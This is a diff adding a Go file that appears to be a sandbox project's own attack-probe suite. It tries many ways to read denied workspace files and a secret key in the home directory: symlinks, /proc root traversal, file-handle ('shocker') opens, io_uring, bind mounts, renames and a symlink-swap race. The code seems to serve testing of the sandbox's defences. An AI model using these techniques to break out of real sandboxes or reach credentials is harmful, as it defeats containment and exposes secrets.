@@ -1,0 +1,315 @@
+//go:build linux
+
+package main
+
+import (
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strconv"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/paddock-sandbox/paddock/attack/target"
+)
+
+// readDeniedEveryWay is A08, against what the policy denies in the workspace
+// and against a key in the caller's home.
+func readDeniedEveryWay() []probe {
+	techniques := []struct {
+		name string
+		run  func(b *target.Brief, p string) target.Try
+	}{
+		{"direct", func(_ *target.Brief, p string) target.Try { return readName(p) }},
+		{"symlink", func(b *target.Brief, p string) target.Try {
+			l := fmt.Sprintf("%s/l%d", b.Work, scratchCount())
+			if err := unix.Symlink(p, l); err != nil {
+				return refused(err)
+			}
+			return readName(l)
+		}},
+		{"hard link", func(b *target.Brief, p string) target.Try {
+			l := fmt.Sprintf("%s/h%d", b.Work, scratchCount())
+			if err := unix.Link(p, l); err != nil {
+				return refused(err)
+			}
+			return readName(l)
+		}},
+		{"/proc/self/root", func(_ *target.Brief, p string) target.Try { return readName("/proc/self/root" + p) }},
+		{"/proc/1/root", func(_ *target.Brief, p string) target.Try { return readName("/proc/1/root" + p) }},
+		{"root of every process", func(_ *target.Brief, p string) target.Try {
+			return each(processes(), func(pid int) target.Try { return readName(fmt.Sprintf("/proc/%d/root%s", pid, p)) })
+		}},
+		{"cwd of every process", func(_ *target.Brief, p string) target.Try {
+			return each(processes(), func(pid int) target.Try {
+				return readName(fmt.Sprintf("/proc/%d/cwd/../../../../../../../..%s", pid, p))
+			})
+		}},
+		{"openat2 RESOLVE_IN_ROOT", func(_ *target.Brief, p string) target.Try {
+			d, err := unix.Open("/", unix.O_PATH|unix.O_DIRECTORY, 0)
+			if err != nil {
+				return refused(err)
+			}
+			defer unix.Close(d)
+			fd, err := unix.Openat2(d, p, &unix.OpenHow{Flags: unix.O_RDONLY, Resolve: unix.RESOLVE_IN_ROOT})
+			return readFD(fd, err)
+		}},
+		{"O_PATH and reopen", func(_ *target.Brief, p string) target.Try {
+			fd, err := unix.Open(p, unix.O_PATH, 0)
+			if err != nil {
+				return refused(err)
+			}
+			defer unix.Close(fd)
+			return readName("/proc/self/fd/" + strconv.Itoa(fd))
+		}},
+		{"directory descriptor", func(_ *target.Brief, p string) target.Try {
+			var t target.Try
+			err := fromDir(p, unix.O_PATH, func(d int, base string) error {
+				fd, err := unix.Openat(d, base, unix.O_RDONLY, 0)
+				t = readFD(fd, err)
+				return nil
+			})
+			if err != nil {
+				return refused(err)
+			}
+			return t
+		}},
+		{"chdir", func(_ *target.Brief, p string) target.Try {
+			if err := unix.Chdir(filepath.Dir(p)); err != nil {
+				return refused(err)
+			}
+			return readName(filepath.Base(p))
+		}},
+		{"mmap", func(_ *target.Brief, p string) target.Try {
+			fd, err := unix.Open(p, unix.O_RDONLY, 0)
+			if err != nil {
+				return refused(err)
+			}
+			defer unix.Close(fd)
+			m, err := unix.Mmap(fd, 0, 32, unix.PROT_READ, unix.MAP_PRIVATE)
+			if err != nil {
+				return refused(err)
+			}
+			return looted(m)
+		}},
+		{"sendfile", func(b *target.Brief, p string) target.Try {
+			return copyOut(b, p, func(out, in int) error { _, err := unix.Sendfile(out, in, nil, 4096); return err })
+		}},
+		{"copy_file_range", func(b *target.Brief, p string) target.Try {
+			return copyOut(b, p, func(out, in int) error { _, err := unix.CopyFileRange(in, nil, out, nil, 4096, 0); return err })
+		}},
+		{"clone of blocks", func(b *target.Brief, p string) target.Try {
+			return copyOut(b, p, func(out, in int) error { return unix.IoctlFileClone(out, in) })
+		}},
+		{"look at its size", func(_ *target.Brief, p string) target.Try {
+			var st unix.Statx_t
+			if err := unix.Statx(unix.AT_FDCWD, p, 0, unix.STATX_ALL, &st); err != nil {
+				return refused(err)
+			}
+			return inside("size %d is visible", st.Size)
+		}},
+		{"io_uring", func(_ *target.Brief, p string) target.Try {
+			fd, err := uringOpen(p, unix.O_RDONLY, 0)
+			return readFD(fd, err)
+		}},
+		{"int 0x80 open", func(_ *target.Brief, p string) target.Try {
+			fd, err := foreignOpen(p, unix.O_RDONLY, 0)
+			return readFD(fd, err)
+		}},
+		{"file handle", func(b *target.Brief, p string) target.Try { return openHandles(b) }},
+		{"bind a copy elsewhere", func(b *target.Brief, p string) target.Try {
+			if err := unix.Mount(filepath.Dir(p), b.Work+"/mnt", "", unix.MS_BIND|unix.MS_REC, ""); err != nil {
+				return refused(err)
+			}
+			return readName(b.Work + "/mnt/" + filepath.Base(p))
+		}},
+	}
+	targets := []struct {
+		name string
+		path func(*target.Brief) string
+	}{
+		{"denied directory", func(b *target.Brief) string { return b.DenyReadDir + "/secret.txt" }},
+		{"denied file", func(b *target.Brief) string { return b.DenyReadFile }},
+		{"key in the home", func(b *target.Brief) string { return b.Secret }},
+	}
+	var ps []probe
+	for _, tg := range targets {
+		for _, tq := range techniques {
+			ps = append(ps, probe{tg.name + ": " + tq.name, func(b *target.Brief) target.Try { return tq.run(b, tg.path(b)) }})
+		}
+	}
+	return append(ps,
+		probe{"list the denied directory", func(b *target.Brief) target.Try { return listDir(b.DenyReadDir) }},
+		probe{"list the home", func(b *target.Brief) target.Try {
+			for _, n := range names(b.Home) {
+				if n == ".ssh" {
+					return reached("the home shows its .ssh")
+				}
+			}
+			return absentHome(b)
+		}},
+		probe{"swap a link in a race", func(b *target.Brief) target.Try { return raceRead(b, b.DenyReadDir+"/secret.txt") }},
+	)
+}
+
+func absentHome(b *target.Brief) target.Try {
+	if _, err := os.ReadDir(b.Home); err != nil {
+		return refused(err)
+	}
+	return inside("the home shows no credentials")
+}
+
+func copyOut(b *target.Brief, p string, f func(out, in int) error) target.Try {
+	in, err := unix.Open(p, unix.O_RDONLY, 0)
+	if err != nil {
+		return refused(err)
+	}
+	defer unix.Close(in)
+	to := fmt.Sprintf("%s/c%d", b.Work, scratchCount())
+	out, err := unix.Open(to, unix.O_CREAT|unix.O_RDWR, 0o644)
+	if err != nil {
+		return refused(err)
+	}
+	defer unix.Close(out)
+	if err := f(out, in); err != nil {
+		return refused(err)
+	}
+	return readName(to)
+}
+
+// moveDenied is A09.
+func moveDenied() []probe {
+	move := func(from func(*target.Brief) string, file string, f func(from, to string) error) func(*target.Brief) target.Try {
+		return func(b *target.Brief) target.Try {
+			to := fmt.Sprintf("%s/m%d", b.Work, scratchCount())
+			if err := f(from(b), to); err != nil {
+				return refused(err)
+			}
+			t := readName(to + file)
+			// Back again, for the next technique.
+			if _, err := os.Lstat(from(b)); err == nil {
+				_ = unix.Renameat2(unix.AT_FDCWD, from(b), unix.AT_FDCWD, to, unix.RENAME_EXCHANGE)
+			} else {
+				_ = unix.Rename(to, from(b))
+			}
+			return t
+		}
+	}
+	dir := func(b *target.Brief) string { return b.DenyReadDir }
+	in := func(b *target.Brief) string { return b.DenyReadDir + "/secret.txt" }
+	file := func(b *target.Brief) string { return b.DenyReadFile }
+	exchange := func(from, to string) error {
+		if err := os.WriteFile(to, nil, 0o644); err != nil {
+			return err
+		}
+		return unix.Renameat2(unix.AT_FDCWD, from, unix.AT_FDCWD, to, unix.RENAME_EXCHANGE)
+	}
+	exchangeDir := func(from, to string) error {
+		if err := os.Mkdir(to, 0o755); err != nil {
+			return err
+		}
+		return unix.Renameat2(unix.AT_FDCWD, from, unix.AT_FDCWD, to, unix.RENAME_EXCHANGE)
+	}
+	return []probe{
+		{"rename the directory", move(dir, "/secret.txt", unix.Rename)},
+		{"rename a file in it", move(in, "", unix.Rename)},
+		{"rename the file", move(file, "", unix.Rename)},
+		{"exchange the directory", move(dir, "/secret.txt", exchangeDir)},
+		{"exchange the file", move(file, "", exchange)},
+		{"link the file", move(file, "", unix.Link)},
+		{"rename the workspace", func(b *target.Brief) target.Try {
+			if err := unix.Rename(b.Work, b.Work+"2"); err != nil {
+				return refused(err)
+			}
+			t := readName(b.Work + "2/" + filepath.Base(b.DenyReadFile))
+			_ = unix.Rename(b.Work+"2", b.Work)
+			return t
+		}},
+	}
+}
+
+// fileHandle is A18, known as shocker.
+func fileHandle() []probe {
+	return []probe{
+		{"handle of a secret", openHandles},
+		{"handle of inode 2", func(b *target.Brief) target.Try {
+			h := make([]byte, 8)
+			binary.LittleEndian.PutUint32(h, 2)
+			return openHandle(b, h, 1)
+		}},
+		{"handle of the workspace", func(b *target.Brief) target.Try {
+			h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, b.Work, 0)
+			if err != nil {
+				return refused(err)
+			}
+			return openHandle(b, h.Bytes(), int(h.Type()))
+		}},
+	}
+}
+
+func openHandles(b *target.Brief) target.Try {
+	if len(b.Handle) == 0 {
+		return absent("the file system has no handles")
+	}
+	return openHandle(b, b.Handle, b.HType)
+}
+
+func openHandle(b *target.Brief, h []byte, typ int) target.Try {
+	handle := unix.NewFileHandle(int32(typ), h)
+	return each([]string{b.Work, "/", "/etc", "/usr", "/proc", "/tmp", "."}, func(dir string) target.Try {
+		m, err := unix.Open(dir, unix.O_RDONLY, 0)
+		if err != nil {
+			return refused(err)
+		}
+		defer unix.Close(m)
+		fd, err := unix.OpenByHandleAt(m, handle, unix.O_RDONLY)
+		if err != nil {
+			return refused(err)
+		}
+		t := readFD(fd, nil)
+		if t.Outcome == target.Denied && t.Errno == "EISDIR" {
+			return reached("opened a directory by its handle")
+		}
+		return t
+	})
+}
+
+// processes lists every process that can be seen, but not our own.
+func processes() []int {
+	var pids []int
+	for _, n := range names("/proc") {
+		if pid, err := strconv.Atoi(n); err == nil && pid != os.Getpid() && pid != os.Getppid() {
+			pids = append(pids, pid)
+		}
+	}
+	return pids
+}
+
+// raceRead swaps a name between a harmless file and a link to p while it opens
+// the name again and again.
+func raceRead(b *target.Brief, p string) target.Try {
+	dir := fmt.Sprintf("%s/race%d", b.Work, scratchCount())
+	if err := os.Mkdir(dir, 0o755); err != nil {
+		return refused(err)
+	}
+	plain, link := dir+"/a", dir+"/b"
+	if err := errors.Join(os.WriteFile(plain, []byte("harmless"), 0o644), unix.Symlink(p, link)); err != nil {
+		return refused(err)
+	}
+	f := newFlip(func(int) { _ = unix.Renameat2(unix.AT_FDCWD, plain, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE) })
+	defer f.end()
+	last := refused(unix.EACCES)
+	for range 20000 {
+		t := readName(plain)
+		if t.Outcome == target.Reached {
+			if t.Loot != "harmless" {
+				return t
+			}
+			continue
+		}
+		last = t
+	}
+	return last
+}
